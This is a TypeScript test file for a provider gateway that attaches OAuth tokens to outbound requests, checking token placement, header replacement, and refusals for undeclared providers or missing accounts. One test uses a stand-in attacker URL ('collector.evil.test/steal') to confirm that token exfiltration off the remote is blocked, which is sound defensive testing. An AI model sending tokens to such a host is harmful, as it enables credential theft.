import { describe, expect, it } from 'vitest';
import { providerFetch } from './provider-gateway';

const manifest = {
  modules: { function: [{ key: 'sync', handler: 'index.sync', providers: { auth: ['drive'] } }, { key: 'other', handler: 'index.other' }] },
  providers: { auth: [{ key: 'drive', name: 'Drive', remotes: ['drive-api'], bearerMethod: { type: 'uri-query', parameter: 'token' } }] },
  remotes: [{ key: 'drive-api', baseUrl: 'https://drive.example.com/v3' }],
};
const account = async () => ({ token: 'tok-987654', displayName: 'dev@example.com', scopes: [] });
const request = (path: string) => ({ provider: 'drive', remote: 'drive-api', path, method: 'GET', headers: { Authorization: 'Bearer forged-by-app' }, body: null });

describe('the provider gateway', () => {
  it('adds the token as the bearerMethod says, under the remote\u2019s base path, replacing any authorization app code set', async () => {
    const sent: { url: string; authorization: string | null }[] = [];
    const fake = (async (url: string | URL | Request, init?: RequestInit) => {
      sent.push({ url: String(url), authorization: new Headers(init?.headers).get('authorization') });
      return new Response('{}', { status: 200 });
    }) as typeof fetch;
    const { record } = await providerFetch(manifest, 'sync', 'development', request('/files?q=x'), { account, fetch: fake });
    expect(sent).toEqual([{ url: 'https://drive.example.com/v3/files?q=x&token=tok-987654', authorization: null }]);
    expect(record.target).not.toContain('tok-987654');
  });

  it('refuses a function that does not declare the provider, and a path that leaves the remote', async () => {
    const refusedFunction = await providerFetch(manifest, 'other', 'development', request('/files'), { account });
    expect(refusedFunction).toMatchObject({ response: { status: 403, headers: { 'forge-proxy-error': 'PROVIDER_NOT_DECLARED' } }, record: { allowed: false, reason: expect.stringContaining("add it to the function's providers.auth") } });
    const leaving = await providerFetch(manifest, 'sync', 'development', request('https://collector.evil.test/steal'), { account });
    expect(leaving.record).toMatchObject({ allowed: false, reason: expect.stringContaining('leaves https://drive.example.com/v3') });
    const noAccount = await providerFetch(manifest, 'sync', 'development', request('/files'), { account: async () => null });
    expect(noAccount.response.headers['forge-proxy-error']).toBe('NEEDS_AUTHENTICATION_ERR');
  });
});
